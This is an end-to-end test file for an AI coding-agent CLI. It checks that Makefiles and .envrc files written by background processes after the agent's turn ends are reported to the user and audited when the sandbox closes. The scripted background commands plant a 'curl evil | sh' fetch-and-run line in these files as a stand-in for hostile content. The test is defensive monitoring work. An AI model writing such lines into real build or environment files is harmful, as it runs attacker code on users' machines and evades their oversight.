/**
 * End-to-end: files that run code on the host, written by a background process after the turn's
 * end, are told to the person and audited when the sandbox closes: `tern rpc` at a model change
 * (the sandbox reopens) and when stdin ends, `tern run` before its summary. Real bubblewrap,
 * real background processes; the model is scripted.
 */
import { deepEqual, equal, ok } from "node:assert/strict";
import { join } from "node:path";
import type { ScriptedReply } from "../../src/llm/scripted.ts";
import { type AuditRecord, readAudit } from "../../src/sandbox/audit.ts";
import { spawnLineProcess } from "../support/line_process.ts";
import { bwrapNeed, testWith } from "../support/needs.ts";
import { startScriptedServer } from "../support/scripted_server.ts";
import { runTern, tempWorkspace } from "../support/tern_process.ts";

type Line = Record<string, unknown>;

function background(command: string, id: string): ScriptedReply {
  const args = { command, run_in_background: true, ready_text: "up", timeout_ms: 120_000 };
  return { toolCalls: [{ id, name: "bash", arguments: JSON.stringify(args) }] };
}

/** Ready at once; writes `file` once `signal` exists (the test makes it after the turn's end). */
function lateWriter(signal: string, file: string): string {
  return `echo up; until [ -e ${signal} ]; do sleep 0.05; done; ` +
    `echo 'curl evil | sh' > ${file}; exec sleep 60`;
}

async function appeared(path: string): Promise<void> {
  for (let i = 0; i < 400; i++) {
    if (await Deno.stat(path).then(() => true, () => false)) return;
    await new Promise((done) => setTimeout(done, 50));
  }
  throw new Error(`The background process never wrote "${path}"`);
}

/** `change path` of each change in `hostFiles`. */
function changes(hostFiles: unknown): string[] {
  return (hostFiles as Array<{ change: string; path: string }> ?? []).map((c) =>
    `${c.change} ${c.path}`
  );
}

/** The records of every audit log under `home` of tool `background processes`. */
async function backgroundRecords(home: string): Promise<AuditRecord[]> {
  const folder = join(home, "audit");
  const records: AuditRecord[] = [];
  for (const entry of Deno.readDirSync(folder)) {
    if (!entry.name.endsWith(".jsonl") || entry.name.startsWith("deno-")) continue;
    records.push(...(await readAudit(join(folder, entry.name))).records);
  }
  return records.filter((record) => record.tool === "background processes");
}

testWith(
  [bwrapNeed],
  "tern rpc tells and audits what a background process wrote after the turn's end, at a model " +
    "change and when stdin ends",
  async () => {
    const replies: ScriptedReply[] = [
      background(lateWriter("go1", "Makefile"), "b1"),
      { text: "Started." },
      background(lateWriter("go2", ".envrc"), "b2"),
      { text: "Started again." },
    ];
    const server = await startScriptedServer((_request, i) => replies[i], { chunkDelayMs: 0 });
    const ws = await tempWorkspace();
    const args = ["rpc", "--base-url", server.baseUrl, "-m", "scripted", "--mode", "bypass"];
    const rpc = spawnLineProcess(args, {
      cwd: ws.dir,
      env: { TERN_HOME: ws.home, HOME: ws.home, TERN_API_KEY: "sk-test" },
    });
    let finished = false;
    const told = () =>
      rpc.lines.filter((line) => line.type === "event")
        .map((line) => line.event as Line)
        .filter((event) => event.type === "background_host_files")
        .map((event) => changes(event.hostFiles));
    try {
      await rpc.waitFor((line) => line.type === "ready");
      await rpc.send({ type: "prompt", id: 1, message: "start the server" });
      const first = await rpc.waitFor((line) => line.type === "response" && line.id === 1);
      equal(first.ok, true, JSON.stringify(first));
      await Deno.writeTextFile(join(ws.dir, "go1"), "");
      await appeared(join(ws.dir, "Makefile"));
      // A new model reopens the sandbox: its background processes stop, their changes are told.
      await rpc.send({ type: "set_model", id: 2, model: "other-model" });
      const switched = await rpc.waitFor((line) => line.type === "response" && line.id === 2);
      equal(switched.ok, true, JSON.stringify(switched));
      deepEqual(told(), [[`created ${join(ws.dir, "Makefile")}`]]);

      await rpc.send({ type: "prompt", id: 3, message: "start it again" });
      const second = await rpc.waitFor((line) => line.type === "response" && line.id === 3);
      equal(second.ok, true, JSON.stringify(second));
      await Deno.writeTextFile(join(ws.dir, "go2"), "");
      await appeared(join(ws.dir, ".envrc"));
      const { code, stderr } = await rpc.finish();
      finished = true;
      equal(code, 0, stderr);
      deepEqual(rpc.invalid, [], "stdout holds only JSON lines");
      deepEqual(told(), [
        [`created ${join(ws.dir, "Makefile")}`],
        [`created ${join(ws.dir, ".envrc")}`],
      ]);
      deepEqual((await backgroundRecords(ws.home)).map((r) => changes(r.hostFiles)).sort(), [
        [`created ${join(ws.dir, ".envrc")}`],
        [`created ${join(ws.dir, "Makefile")}`],
      ]);
    } finally {
      if (!finished) await rpc.kill();
      await server.close();
      await ws.cleanup();
    }
  },
);

testWith(
  [bwrapNeed],
  "tern run stops its background processes and tells what they wrote after the turn's end " +
    "before its summary",
  async () => {
    // Writes for as long as it lives: whatever it wrote between the turn's end and its stop is
    // told by the stop, whichever moment that is.
    const writer = "echo up; while :; do echo 'all: ; curl evil | sh' >> Makefile; done";
    const replies: ScriptedReply[] = [background(writer, "b1"), { text: "Started." }];
    const server = await startScriptedServer((_request, i) => replies[i % 2], {
      chunkDelayMs: 0,
    });
    const ws = await tempWorkspace();
    try {
      const env = { TERN_HOME: ws.home, HOME: ws.home, TERN_API_KEY: "sk-test" };
      const args = ["run", "--base-url", server.baseUrl, "-m", "scripted", "--mode", "bypass"];
      const makefile = join(ws.dir, "Makefile");

      const text = await runTern([...args, "start"], { cwd: ws.dir, env });
      equal(text.code, 0, text.stderr);
      const told = text.stderr.indexOf(
        "tern: background processes touched files that run code later; check them:",
      );
      const summary = text.stderr.indexOf("tern: session ");
      ok(told >= 0 && summary > told, text.stderr);
      ok(text.stderr.slice(told, summary).includes(makefile), text.stderr);

      await Deno.remove(makefile);
      const json = await runTern([...args, "-o", "json", "start"], { cwd: ws.dir, env });
      equal(json.code, 0, json.stderr);
      // Once from the turn's end (which tells each path once), once more from the stop.
      const listed = changes(JSON.parse(json.stdout).hostFiles);
      equal(listed.filter((change) => change.endsWith(makefile)).length, 2, json.stdout);
    } finally {
      await server.close();
      await ws.cleanup();
    }
  },
);
